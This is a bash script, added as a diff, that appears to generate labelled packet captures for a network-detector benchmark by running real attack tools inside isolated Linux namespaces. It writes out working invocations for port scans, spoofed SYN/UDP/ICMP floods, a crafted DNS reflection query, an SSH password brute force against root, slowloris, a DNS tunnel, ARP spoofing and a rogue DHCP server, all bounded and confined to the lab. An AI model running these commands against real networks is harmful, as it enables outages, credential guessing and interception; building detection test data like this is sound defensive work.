@@ -1,0 +1,183 @@
+#!/usr/bin/env bash
+# Attacks by real tools, each in a capture of its own, for `weir-bench detectors`.
+#
+# usage: sudo bench/attacks/make.sh [FOLDER]     some four minutes; Linux, root
+# needs: iproute2 tcpdump ethtool curl dnsutils dnsmasq openssh-server iputils-ping python3
+#        nmap hping3 masscan hydra slowhttptest iodine dsniff busybox (those that are missing are
+#        named, and their attacks left out)
+#
+#      a 192.0.2.1   ----+
+#                        lan  r  ---- b 198.51.100.2 (web, ssh, dns), .3 (a tunnel's end),
+#      e 192.0.2.66  ----+                198.51.100.8 (takes packets, never answers)
+#
+# a is an honest client, e the attacker, and r, 192.0.2.254, the router on whose bridge `lan` all
+# is captured. FOLDER (bench/out/attacks by default) gets NAME.pcap for each attack, and
+# attacks.jsonl: kind, tool, rate, attacker and victim of each. background.pcap is honest traffic.
+# Nothing leaves the namespaces; everything is bounded by count or time.
+set -euo pipefail
+here=$(cd "$(dirname "$0")" && pwd)
+out=${1:-$here/../out/attacks}
+mkdir -p "$out"
+out=$(cd "$out" && pwd)
+. "$here/../../fixtures/lab.sh"
+
+A=weir-attack-a E=weir-attack-e R=weir-attack-r B=weir-attack-b
+namespaces=($A $E $R $B)
+lab_begin
+a() { timeout 60 ip netns exec $A "$@"; }
+e() { timeout 60 ip netns exec $E "$@"; }
+r() { timeout 60 ip netns exec $R "$@"; }
+b() { timeout 60 ip netns exec $B "$@"; }
+
+# ---------------------------------------------------------------- the network
+
+ip link add eth0 netns $A address 02:00:00:00:00:01 type veth peer name port_a netns $R
+ip link add eth0 netns $E address 02:00:00:00:00:66 type veth peer name port_e netns $R
+ip link add eth0 netns $B address 02:00:00:00:00:02 type veth \
+    peer name right netns $R address 02:00:00:00:00:0b
+ip -n $R link add lan address 02:00:00:00:00:0a type bridge
+ip -n $R link set port_a master lan
+ip -n $R link set port_e master lan
+for end in "$A eth0" "$E eth0" "$B eth0" "$R port_a" "$R port_e" "$R right"; do port $end; done
+ip -n $R link set lan up
+r sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
+ip -n $A addr add 192.0.2.1/24 dev eth0
+ip -n $E addr add 192.0.2.66/24 dev eth0
+ip -n $R addr add 192.0.2.254/24 dev lan
+ip -n $R addr add 198.51.100.254/24 dev right
+ip -n $B addr add 198.51.100.2/24 dev eth0
+ip -n $B addr add 198.51.100.3/24 dev eth0
+ip -n $A route add default via 192.0.2.254
+ip -n $E route add default via 192.0.2.254
+ip -n $B route add default via 198.51.100.254
+# Answers to invented addresses go to the client, which drops them: both sides are captured.
+ip -n $R route add default via 192.0.2.1
+a ping -q -c 1 -W 3 198.51.100.2 >/dev/null
+e ping -q -c 1 -W 3 198.51.100.2 >/dev/null
+
+# ---------------------------------------------------------------- the servers
+
+mkdir "$work/www"
+echo '<h1>It works.</h1>' >"$work/www/index.html"
+seq 1 4000 >"$work/www/numbers.txt"
+serve $B python3 -m http.server --bind 198.51.100.2 --directory "$work/www" 80
+# The long text makes answers that amplify.
+serve $B dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root \
+    --pid-file="$work/dnsmasq.pid" --cache-size=0 --local=/test/ --local=/arpa/ \
+    --listen-address=198.51.100.2 --bind-interfaces --edns-packet-max=4096 \
+    --host-record=www.example.test,198.51.100.2 \
+    $(for i in 1 2 3 4 5; do echo "--txt-record=big.example.test,$(printf 'x%.0s' {1..200})"; done)
+ssh_keys host
+cat >"$work/sshd_config" <<END
+HostKey $work/host
+PidFile $work/sshd.pid
+StrictModes no
+UsePAM no
+PasswordAuthentication yes
+MaxStartups 100
+PrintMotd no
+END
+serve $B /usr/sbin/sshd -D -f "$work/sshd_config"
+for port in 22 53 80; do until b nc -z 198.51.100.2 $port; do sleep 0.2; done; done
+
+# ---------------------------------------------------------------- the attacks
+
+: >"$out/attacks.jsonl"
+
+# attack NAME KIND TOOL RATE ATTACKER VICTIM command...: captures one attack, with a little honest
+# traffic around it.
+attack() {
+    local name=$1 kind=$2 tool=$3 rate=$4 attacker=$5 victim=$6; shift 6
+    if ! command -v "$tool" >/dev/null; then
+        echo "left out: $name, for $tool is not here" >&2
+        return
+    fi
+    # A neighbour that never answers at the layer above: frames to it are taken, and dropped.
+    ip -n $R neigh replace 198.51.100.8 lladdr 02:00:00:00:00:02 dev right nud permanent
+    echo "$name" >&2
+    capture "$out/$name.pcap" $R -i lan
+    "$@" >"$work/$name.out" 2>&1 || true
+    stop
+    printf '{"name":"%s","kind":"%s","tool":"%s","rate":"%s","attacker":"%s","victim":"%s"}\n' \
+        "$name" "$kind" "$tool" "$rate" "$attacker" "$victim" >>"$out/attacks.jsonl"
+}
+
+honest() {
+    for _ in $(seq "$1"); do
+        a curl -s --max-time 10 http://198.51.100.2/ http://198.51.100.2/numbers.txt >/dev/null
+        a dig +tries=1 +time=2 @198.51.100.2 www.example.test >/dev/null
+        a ping -q -c 2 -i 0.2 198.51.100.2 >/dev/null
+        sleep 0.3
+    done
+}
+echo background >&2
+capture "$out/background.pcap" $R -i lan
+honest 60
+stop
+
+me=192.0.2.66 server=198.51.100.2 silent=198.51.100.8
+scan() { e nmap -n -Pn --max-retries 0 "$@"; }
+attack scan_syn port_scan nmap "as fast as it goes" $me $server scan -sS -p 1-1000 $server
+attack scan_syn_20 port_scan nmap 20/s $me $server scan -sS -p 1-400 --max-rate 20 $server
+attack scan_syn_2 port_scan nmap 2/s $me $server scan -sS -p 1-100 --max-rate 2 $server
+attack scan_connect port_scan nmap "as fast as it goes" $me $server scan -sT -p 1-1000 $server
+attack scan_udp udp_scan nmap 50/s $me $server scan -sU -p 1-500 --max-rate 50 $server
+attack sweep_80 host_scan nmap 50/s $me - scan -sS -p 80 --max-rate 50 198.51.100.0/24
+attack sweep_22_5 host_scan nmap 5/s $me - scan -sS -p 22 --max-rate 5 198.51.100.0/25
+attack sweep_ping icmp_sweep nmap 50/s $me - \
+    e nmap -n -sn -PE --max-retries 0 --max-rate 50 198.51.100.0/24
+attack masscan_telnet host_scan masscan 100/s $me - \
+    e masscan 198.51.100.0/25 -p23,2323 --rate 100 --wait 1 --interface eth0 \
+    --source-ip $me --router-mac 02-00-00-00-00-0a
+
+flood() { e hping3 -q -n "$@"; }
+attack flood_syn_1000 syn_flood hping3 1000/s spoofed $server \
+    flood -S --rand-source -p 80 -i u1000 -c 10000 $server
+attack flood_syn_100 syn_flood hping3 100/s spoofed $server \
+    flood -S --rand-source -p 80 -i u10000 -c 3000 $server
+attack flood_syn_silent syn_flood hping3 500/s spoofed $silent \
+    flood -S --rand-source -p 443 -i u2000 -c 8000 $silent
+attack flood_syn_one syn_flood hping3 500/s $me $silent flood -S -p 443 -i u2000 -c 8000 $silent
+attack flood_udp udp_flood hping3 1000/s $me $silent flood --udp -d 200 -p 9999 -i u1000 -c 10000 $silent
+attack flood_icmp icmp_flood hping3 1000/s $me $server flood --icmp -d 56 -i u1000 -c 10000 $server
+
+# A question for a long text, as if the client had asked it; the answers are the server's own.
+printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x04test\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' >"$work/question"
+attack reflection_dns dns_reflection hping3 200/s 198.51.100.2 192.0.2.1 \
+    r hping3 -q -n --udp -a 192.0.2.1 -p 53 -d "$(stat -c %s "$work/question")" \
+    --file "$work/question" -i u5000 -c 3000 198.51.100.2
+
+for i in $(seq 100); do echo "password$i"; done >"$work/passwords"
+attack brute_ssh ssh_brute_force hydra "4 at a time" $me $server \
+    e hydra -q -I -t 4 -l root -P "$work/passwords" ssh://$server
+attack slow_headers slowloris slowhttptest "50 connections/s" $me $server \
+    e slowhttptest -c 100 -H -i 10 -r 50 -l 45 -u http://$server/ -p 5
+tunnel() {
+    serve $B iodined -f -c -P weir -l 198.51.100.3 10.9.0.1 t.example.test
+    sleep 1
+    e iodine -f -r -P weir 198.51.100.3 t.example.test &
+    sleep 6
+    e ping -q -c 60 -i 0.3 -s 400 10.9.0.1
+    kill %% || true
+}
+attack tunnel_iodine dns_tunnel iodine "3 KB/s" $me 198.51.100.3 tunnel
+
+spoof() {
+    e timeout 15 arpspoof -i eth0 -t 192.0.2.1 192.0.2.254 &
+    honest 12
+    wait $! || true
+}
+attack spoof_arp arp_spoof arpspoof 0.5/s $me 192.0.2.1 spoof
+rogue() {
+    serve $R dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --user=root \
+        --pid-file="$work/dhcp-r.pid" --dhcp-leasefile="$work/leases-r" --interface=lan \
+        --dhcp-range=192.0.2.100,192.0.2.120,1h
+    serve $E dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --user=root \
+        --pid-file="$work/dhcp-e.pid" --dhcp-leasefile="$work/leases-e" --interface=eth0 \
+        --dhcp-range=192.0.2.200,192.0.2.220,1h
+    sleep 2
+    for _ in 1 2 3; do a busybox udhcpc -i eth0 -n -q -f -s /bin/true -t 3 -T 1 || true; done
+}
+attack rogue_dhcp rogue_dhcp busybox "3 requests" $me 192.0.2.1 rogue
+
+ls -l "$out"/*.pcap >&2
